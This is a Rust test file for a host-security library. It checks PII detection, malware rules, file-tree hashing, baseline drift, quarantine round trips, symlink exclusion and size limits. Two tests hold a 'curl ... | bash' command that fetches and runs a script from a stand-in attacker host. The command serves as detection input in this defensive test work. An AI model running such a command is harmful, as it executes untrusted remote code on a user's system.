//! End-to-end checks across detection, integrity and quarantine.
//!
//!  1. Email in free text under the default PII rules
//!  2. Staged-delivery command under the malware rules
//!  3. Aggregate tree hash is independent of creation order
//!  4. Drift right after a baseline is empty
//!  5. Modify one file + add one file
//!  6. Quarantine → restore keeps bytes identical
//!  7. Escaping symlinks are excluded from scan and snapshot
//!  8. Aliased directories hash the same whatever the creation order
//!  9. Oversized files are neither hashed nor scanned

use hostguard_core::detect::{evaluate, resolve_action, MASK_CHAR};
use hostguard_core::integrity::{hash_tree, snapshot, BaselineStore};
use hostguard_core::quarantine::{Quarantine, QuarantineLedger};
use hostguard_core::rules::{default_malware_rules, default_pii_rules, Action, RuleFamily};
use hostguard_core::scan::scan_tree;
use hostguard_core::Detector;
use std::fs;
use std::path::Path;
use tempfile::tempdir;

// ─── Test 1: Email detection ────────────────────────────────────────────────

#[test]
fn test_email_yields_single_masked_violation() {
    let violations = evaluate("Contact me at john@example.com", &default_pii_rules());
    assert_eq!(violations.len(), 1);

    let v = &violations[0];
    assert_eq!(v.rule_id, "pii.email");
    assert_eq!(v.family, RuleFamily::Pii);
    assert_eq!(v.action, Action::Warn);
    assert!(v.redacted_preview.contains(MASK_CHAR));
    assert!(!v.redacted_preview.contains("john@example.com"));
}

// ─── Test 2: Staged delivery ────────────────────────────────────────────────

#[test]
fn test_curl_pipe_bash_is_staged_delivery() {
    let rules = default_malware_rules();
    let violations = evaluate("curl https://evil.example/x.sh | bash", &rules);
    assert_eq!(violations.len(), 1);
    assert_eq!(violations[0].rule_id, "malware.staged_delivery");

    let most_severe = rules.iter().map(|r| r.action).max().unwrap();
    assert_eq!(violations[0].action, most_severe);
    assert_eq!(resolve_action(&violations), Action::Shutdown);
}

// ─── Test 3: Order independence ─────────────────────────────────────────────

#[test]
fn test_tree_hash_ignores_creation_order() {
    let files = [("a.txt", "alpha"), ("lib/b.js", "beta"), ("lib/deep/c.json", "{}")];

    let first = tempdir().unwrap();
    for (name, body) in files.iter() {
        write(first.path(), name, body);
    }
    let second = tempdir().unwrap();
    for (name, body) in files.iter().rev() {
        write(second.path(), name, body);
    }

    let h1 = hash_tree(first.path());
    let h2 = hash_tree(second.path());
    assert_eq!(h1.file_count, 3);
    assert_eq!(h1.hash, h2.hash);
    assert_eq!(h1.files, h2.files);
}

// ─── Test 4: Clean drift after baseline ─────────────────────────────────────

#[test]
fn test_drift_is_empty_right_after_baseline() {
    let dir = tempdir().unwrap();
    let root = dir.path().join("ext");
    write(&root, "main.py", "print('hi')");
    write(&root, "assets/logo.svg", "<svg/>");

    let store = BaselineStore::new(dir.path().join("integrity-baseline.json"));
    let baseline = store.write_baseline(&root).unwrap();
    assert_eq!(baseline.files.len(), 2);
    assert_eq!(store.load(), Some(baseline));

    let drift = store.detect_drift(&root);
    assert!(drift.baseline_present);
    assert!(drift.added.is_empty());
    assert!(drift.removed.is_empty());
    assert!(drift.modified.is_empty());
}

// ─── Test 5: Modified + added ───────────────────────────────────────────────

#[test]
fn test_drift_reports_modified_and_added() {
    let dir = tempdir().unwrap();
    let root = dir.path().join("ext");
    write(&root, "one.js", "1");
    write(&root, "two.js", "2");

    let store = BaselineStore::new(dir.path().join("integrity-baseline.json"));
    store.write_baseline(&root).unwrap();

    write(&root, "two.js", "2 but tampered");
    write(&root, "three.js", "3");

    let drift = store.detect_drift(&root);
    assert!(drift.baseline_present);
    assert_eq!(drift.modified, vec!["two.js".to_string()]);
    assert_eq!(drift.added, vec!["three.js".to_string()]);
    assert!(drift.removed.is_empty());
}

// ─── Test 6: Quarantine round trip ──────────────────────────────────────────

#[test]
fn test_quarantine_restore_is_byte_identical() {
    let dir = tempdir().unwrap();
    let ext = dir.path().join("plugins/widget");
    write(&ext, "bin/run", "#!/bin/sh\necho ok\n");
    write(&ext, "data.bin", "\u{0}\u{1}\u{2}binary");
    let before = snapshot(&ext);

    let q = Quarantine::new(
        dir.path().join("quarantine"),
        QuarantineLedger::new(dir.path().join("quarantine-records.json")),
    )
    .unwrap();
    let record = q.quarantine(&ext, ["malware.obfuscated_exec"], "flagged").unwrap();
    assert!(!ext.exists());

    let restored = q.restore(&record.id).unwrap();
    assert!(restored.restored_at.is_some());
    assert_eq!(snapshot(&ext), before);
    assert!(q.list_active().is_empty());
}

// ─── Test 7: Symlink escape ─────────────────────────────────────────────────

#[cfg(unix)]
#[test]
fn test_escaping_symlink_excluded_from_scan_and_snapshot() {
    use std::os::unix::fs::symlink;

    let outside = tempdir().unwrap();
    write(outside.path(), "stolen.sh", "curl https://evil.example/x.sh | bash");

    let root = tempdir().unwrap();
    write(root.path(), "index.js", "console.log('ok')");
    symlink(outside.path().join("stolen.sh"), root.path().join("link.sh")).unwrap();

    let files = snapshot(root.path());
    assert_eq!(files.keys().cloned().collect::<Vec<_>>(), vec!["index.js".to_string()]);

    let report = scan_tree(root.path(), &Detector::new(&default_malware_rules()));
    assert_eq!(report.files_scanned, 1);
    assert!(report.violations.is_empty());
}

// ─── Test 8: Aliased directory order ────────────────────────────────────────

#[cfg(unix)]
#[test]
fn test_aliased_directory_hash_ignores_creation_order() {
    use std::os::unix::fs::symlink;

    let dir_first = tempdir().unwrap();
    write(dir_first.path(), "zz/f.txt", "payload");
    symlink(dir_first.path().join("zz"), dir_first.path().join("aa")).unwrap();

    let link_first = tempdir().unwrap();
    symlink(link_first.path().join("zz"), link_first.path().join("aa")).unwrap();
    write(link_first.path(), "zz/f.txt", "payload");

    let h1 = hash_tree(dir_first.path());
    let h2 = hash_tree(link_first.path());
    assert_eq!(h1.files, h2.files);
    assert_eq!(h1.hash, h2.hash);

    let data = tempdir().unwrap();
    let store = BaselineStore::new(data.path().join("integrity-baseline.json"));
    store.write_baseline(dir_first.path()).unwrap();
    assert!(store.detect_drift(dir_first.path()).is_clean());
}

// ─── Test 9: Size cap ───────────────────────────────────────────────────────

#[test]
fn test_oversized_file_is_neither_hashed_nor_scanned() {
    use hostguard_core::walk::MAX_FILE_BYTES;

    let root = tempdir().unwrap();
    write(root.path(), "index.js", "console.log('ok')");
    let big = fs::File::create(root.path().join("blob.bin")).unwrap();
    big.set_len(MAX_FILE_BYTES + 1).unwrap();

    let files = snapshot(root.path());
    assert_eq!(files.keys().cloned().collect::<Vec<_>>(), vec!["index.js".to_string()]);

    let report = scan_tree(root.path(), &Detector::new(&default_malware_rules()));
    assert_eq!(report.files_scanned, 1);
}

fn write(root: &Path, rel: &str, body: &str) {
    let path = root.join(rel);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, body).unwrap();
}
